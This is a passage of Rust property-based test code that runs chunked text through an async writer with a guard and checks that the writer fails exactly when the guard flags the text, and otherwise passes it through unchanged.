        let runtime = tokio::runtime::Builder::new_current_thread().build().expect("a runtime");
        let (heard, result) = runtime.block_on(written(split(&text, &sizes), guard()));
        prop_assert_eq!(result.is_err(), guard().look(&text).is_some());
        if result.is_ok() {
            prop_assert_eq!(heard, text);
        }
    }
}
